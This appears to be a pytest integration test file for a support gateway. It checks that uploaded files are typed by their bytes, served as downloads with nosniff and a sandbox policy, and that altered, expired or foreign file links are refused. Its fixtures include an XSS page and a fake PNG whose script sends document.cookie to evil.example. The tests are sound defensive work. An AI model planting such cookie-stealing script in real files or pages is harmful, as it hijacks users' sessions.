"""Uploaded files are served for what their bytes are, never as a page: an operator's reply file and a
customer's file from Telegram, fetched through the gateway's file link from the real S3 engine. Only real
pictures are photos and are shown inline; anything else is a download (`Content-Disposition: attachment`)
with a passive content type; every file comes with `nosniff` and a sandboxing policy. A link is the only
way in: altered, expired or another install's links are refused."""

from __future__ import annotations

import base64
import json
import time
import uuid
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from gateway.domain.file_links import FileLinks
from tests.e2e.conftest import Stack, open_stack
from tests.support.images import png
from tests.support.waiting import eventually

pytestmark = pytest.mark.integration

PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
NOT_A_PNG = b"<html><script>fetch('https://evil.example/?c=' + document.cookie)</script></html>"


@pytest.fixture
async def stack(engines: dict[str, str]) -> AsyncIterator[Stack]:
    async with open_stack(engines) as holder:
        yield holder


def chat() -> int:
    return 100_000 + uuid.uuid4().int % 800_000


async def fetch(stack: Stack, url: str) -> httpx.Response:
    """What a browser gets for the link: no Authorization header, as for an <img> or a download."""
    assert url.startswith("/api/v1/files/"), f"files are served by the gateway, not {url}"
    response = await stack.api.get(url)
    assert response.status_code == 200, response.text
    assert_served_safely(response)
    return response


def assert_served_safely(response: httpx.Response) -> None:
    assert response.headers["x-content-type-options"] == "nosniff"
    policy = response.headers["content-security-policy"]
    assert "sandbox" in policy, policy
    assert "default-src 'none'" in policy, policy


def assert_downloaded(response: httpx.Response, file_name: str) -> None:
    disposition = response.headers.get("content-disposition", "")
    assert disposition.startswith("attachment;"), f"served inline: {dict(response.headers)}"
    assert file_name in disposition
    content_type = response.headers["content-type"].split(";")[0]
    assert content_type == "application/octet-stream", f"served as {content_type}"


async def reply_with_file(
    stack: Stack, ticket_id: str, name: str, data: bytes, declared: str
) -> dict[str, Any]:
    sent = await stack.api.post(
        f"/api/v1/tickets/{ticket_id}/messages",
        files={"file": (name, data, declared)},
        headers=stack.admin.headers,
    )
    assert sent.status_code == 201, sent.text
    (attachment,) = sent.json()["attachments"]
    return dict(attachment)


async def test_operator_files_are_typed_by_their_bytes_and_only_pictures_served_inline(stack: Stack) -> None:
    chat_id = chat()
    await stack.customer_says(chat_id, "Пришлите, пожалуйста, инструкцию")
    ticket = await stack.ticket_of(chat_id)

    page = await reply_with_file(stack, ticket["id"], "page.html", PAGE, "text/html")
    assert (page["kind"], page["mime_type"]) == ("document", "text/html")
    assert_downloaded(await fetch(stack, page["url"]), "page.html")

    fake = await reply_with_file(stack, ticket["id"], "screen.png", NOT_A_PNG, "image/png")
    assert fake["kind"] == "document", "bytes that are no picture must not be a photo"
    assert fake["mime_type"] != "image/png"
    fetched = await fetch(stack, fake["url"])
    assert_downloaded(fetched, "screen.png")
    assert fetched.content == NOT_A_PNG

    picture = png(6, 6, (0, 90, 200))
    real = await reply_with_file(stack, ticket["id"], "схема.png", picture, "application/octet-stream")
    assert (real["kind"], real["mime_type"]) == ("photo", "image/png")
    shown = await fetch(stack, real["url"])
    assert shown.headers["content-type"] == "image/png"
    assert not shown.headers.get("content-disposition", "inline").startswith("attachment")
    assert shown.content == picture

    # The console lists the stored message the same way.
    listed = [item for message in await stack.messages(ticket["id"]) for item in message["attachments"]]
    by_name = {item["file_name"]: item for item in listed}
    assert_downloaded(await fetch(stack, by_name["page.html"]["url"]), "page.html")
    assert by_name["схема.png"]["kind"] == "photo"


async def test_customer_files_from_telegram_are_typed_by_their_bytes(stack: Stack) -> None:
    chat_id = chat()
    await stack.customer_sends_file(chat_id, "document", "invoice.html", PAGE, "text/html", "Вот счёт")
    await stack.customer_sends_file(chat_id, "document", "photo.png", NOT_A_PNG, "image/png", "")
    ticket = await stack.ticket_of(chat_id)

    files: dict[str, dict[str, Any]] = {}

    async def both_files() -> bool:
        listed = await stack.messages(ticket["id"])
        files.update({item["file_name"]: item for message in listed for item in message["attachments"]})
        return len(files) >= 2

    await eventually(both_files, timeout_s=20, what="both customer files stored")
    page, fake = files["invoice.html"], files["photo.png"]
    assert page["mime_type"] == "text/html"
    assert_downloaded(await fetch(stack, page["url"]), "invoice.html")
    assert fake["mime_type"] != "image/png", "Telegram's declared type is only a claim"
    assert_downloaded(await fetch(stack, fake["url"]), "photo.png")


def link_secret(stack: Stack) -> str:
    assert stack.gateway_settings is not None
    return stack.gateway_settings.jwt_secret.get_secret_value()


async def test_a_file_link_is_the_only_way_in_and_serves_byte_ranges(stack: Stack) -> None:
    chat_id = chat()
    await stack.customer_says(chat_id, "Пришлите выписку")
    ticket = await stack.ticket_of(chat_id)
    data = bytes(range(256)) * 64
    sent = await reply_with_file(stack, ticket["id"], "выписка.bin", data, "application/octet-stream")
    url = sent["url"]
    assert (await fetch(stack, url)).content == data

    # <audio> and <video> seek with one byte range.
    part = await stack.api.get(url, headers={"Range": "bytes=100-199"})
    assert part.status_code == 206, part.text
    assert part.content == data[100:200]
    assert part.headers["content-range"] == f"bytes 100-199/{len(data)}"
    assert_served_safely(part)
    beyond = await stack.api.get(url, headers={"Range": f"bytes={len(data) + 10}-"})
    assert beyond.status_code == 416

    token = url.removeprefix("/api/v1/files/")
    head, claims, signature = token.split(".")
    decoded = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
    key = decoded["k"]
    # Another stored object under this link's signature: the signature covers the claims.
    other = await reply_with_file(stack, ticket["id"], "other.bin", b"\x00other" * 100, "application/zip")
    other_claims = other["url"].removeprefix("/api/v1/files/").split(".")[1]
    decoded["k"] = json.loads(base64.urlsafe_b64decode(other_claims + "=" * (-len(other_claims) % 4)))["k"]
    altered = base64.urlsafe_b64encode(json.dumps(decoded).encode()).rstrip(b"=").decode()
    refused = {
        "altered": f"{head}.{altered}.{signature}",
        "another install's": FileLinks("another install's secret", 900).issue(key, "text/plain", "a.txt"),
        "expired": FileLinks(link_secret(stack), 60).issue(key, "text/plain", "a.txt", now=time.time() - 600),
        "an access token": stack.admin.headers["Authorization"].removeprefix("Bearer "),
        "garbage": "not-a-link",
    }
    for what, link in refused.items():
        path = link if link.startswith("/") else f"/api/v1/files/{link}"
        response = await stack.api.get(path, headers=stack.admin.headers)
        assert response.status_code == 403, f"{what} link: {response.status_code} {response.text}"
        assert data not in response.content
    # A link made now with this install's secret opens the same object: only the defects were refused.
    fresh = FileLinks(link_secret(stack), 60).issue(key, "text/plain", "a.txt")
    assert (await fetch(stack, fresh)).content == data
